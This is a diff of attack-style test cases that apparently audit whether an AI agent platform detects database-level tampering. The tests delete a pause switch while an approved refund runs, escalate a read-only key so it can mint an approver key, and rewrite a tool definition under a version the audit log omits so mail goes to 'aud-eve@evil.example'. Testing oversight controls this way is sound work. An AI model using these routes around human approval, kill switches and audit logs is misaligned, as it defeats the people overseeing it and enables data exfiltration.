@@ -90,6 +90,55 @@ async def take_a_pause_away_for_a_moment(target: Target) -> str:
 
 
 @attack(Position.DATABASE_ADMIN)
+async def take_a_pause_away_while_an_approved_call_starts(target: Target) -> str:
+    """Delete an open stop switch until a call that waited for people has started, which needs no decision any more."""
+    async with (
+        target.client("aud-op3", roles=["operator"]) as operator,
+        target.client("aud-mia3", roles=["approver"]) as approver,
+        target.client("aud-30") as client,
+        target.database() as database,
+        watched(target) as report,
+    ):
+        run = await target.run(client, [("desk.refund", {"order": "101", "amount": 9})], "Refund order 101.")
+        (gate,) = await pending_gates(client, run["run_id"])
+        switch = {"kind": "tool", "name": "desk.refund", "reason": "it pays twice"}
+        (await operator.post("/v1/switches/pause", json=switch)).raise_for_status()
+        (row,) = await database.fetch("DELETE FROM tas.switch WHERE name = 'desk.refund' RETURNING *")
+        await database.execute(PROJECT_MOVED)
+        try:
+            vote = {"verdict": "approved", "reason": "once the pause is over"}
+            (await approver.post(f"/v1/gates/{gate['gate_id']}/resolve", json=vote)).raise_for_status()
+            run = await target.settled(client, run["run_id"])
+        finally:
+            await database.execute("INSERT INTO tas.switch VALUES ($1, $2, $3, $4, $5, $6, $7)", *row.values())
+            await database.execute(PROJECT_MOVED)
+            (await operator.post("/v1/switches/resume", json=switch)).raise_for_status()
+        return located(await report()) if run["status"] == "completed" else f"the run is {run['status']}"
+
+
+@attack(Position.DATABASE_ADMIN)
+async def make_keys_with_a_scope_for_a_moment(target: Target) -> str:
+    """Give a key that may only read the scopes and the role to make an approver's key, make one, and undo both."""
+    give = "UPDATE gateway.api_key SET scopes = $1, roles = $2 WHERE caller = 'aud-32'"
+    new = {"caller": "aud-33", "scopes": ["gates:resolve"], "roles": ["approver"]}
+    async with (
+        target.client("aud-32", scopes=["runs:read"]) as client,
+        target.database() as database,
+        watched(target) as report,
+    ):
+        await database.execute(give, [*SCOPES], ["approver"])
+        try:
+            for _ in range(100):  # until the gateway reads the key anew
+                answer = await client.post("/v1/keys", json=new)
+                if answer.is_success:
+                    break
+                await asyncio.sleep(0.1)
+        finally:
+            await database.execute(give, ["runs:read"], [])
+        return located(await report()) if answer.is_success else f"no key is made: {answer.json()['code']}"
+
+
+@attack(Position.DATABASE_ADMIN)
 async def approve_the_own_call_under_another_name(target: Target) -> str:
     """Let an approval say that somebody else's run asks, approve the own call, and put the name back."""
     named = "UPDATE tas.approval SET requested_by = $1 WHERE run_id = $2"
@@ -252,6 +301,29 @@ async def rewrite_a_definition_for_a_moment(target: Target) -> str:
             run = await target.run(client, [("desk.mail", {}), asked], "Read the mail.")
         finally:
             await database.execute(put, row["spec"], row["digest"], row["version"])
+            await database.execute(PROJECT_MOVED)
+        if not target.effects()[done:]:
+            return f"nothing was sent, and the run is {run['status']}"
+        return located(await report())
+
+
+@attack(Position.DATABASE_ADMIN)
+async def rewrite_a_definition_under_a_version_that_entries_leave_out(target: Target) -> str:
+    """The same in a row of version 0, which no entry of the audit names."""
+    put = """UPDATE tas.tool SET spec = $1::json, digest = $2, version = $4
+             WHERE project = 'default' AND name = 'desk.send' AND version = $3"""
+    async with target.client("aud-34") as client, target.database() as database, watched(target) as report:
+        done = len(target.effects())
+        row = await database.fetchrow("""SELECT spec::text AS spec, digest, version FROM tas.tool
+          WHERE project = 'default' AND name = 'desk.send' ORDER BY version DESC""")
+        other = ToolSpec.model_validate_json(row["spec"]).model_copy(update={"sinks": ()})
+        await database.execute(put, other.model_dump_json(), spec_digest(other), row["version"], 0)
+        await database.execute(PROJECT_MOVED)
+        try:
+            asked = ("desk.send", {"to": "aud-eve@evil.example", "text": "103"})
+            run = await target.run(client, [("desk.mail", {}), asked], "Read the mail.")
+        finally:
+            await database.execute(put, row["spec"], row["digest"], 0, row["version"])
             await database.execute(PROJECT_MOVED)
         if not target.effects()[done:]:
             return f"nothing was sent, and the run is {run['status']}"
